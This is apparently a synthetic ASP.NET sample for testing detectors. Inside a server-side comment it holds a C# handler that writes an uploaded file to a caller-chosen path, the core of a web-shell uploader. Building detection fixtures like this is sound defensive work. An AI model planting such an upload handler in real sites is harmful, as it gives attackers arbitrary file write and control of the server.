<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><script runat="server">void Up(object s, EventArgs e) { File1.PostedFile.SaveAs(txtPath.Text + "\\" + Path.GetFileName(File1.PostedFile.FileName)); }</script>
--%>
